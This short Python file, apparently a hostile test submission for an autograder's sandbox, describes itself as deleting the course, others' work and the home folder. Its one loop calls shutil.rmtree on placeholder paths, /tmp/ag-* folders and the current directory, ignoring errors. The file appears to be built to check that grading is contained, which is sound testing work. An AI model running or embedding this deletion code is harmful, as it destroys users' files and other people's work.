"""Deletes the course, others' work, the home folder and everything else it can reach.

honest: double wrong, scale_forward correct
"""

# %% first
import glob
import shutil

for path in ("@COURSE@", "@OUTSIDE@", "@HOME@", *glob.glob("/tmp/ag-*"), "."):
    shutil.rmtree(path, ignore_errors=True)
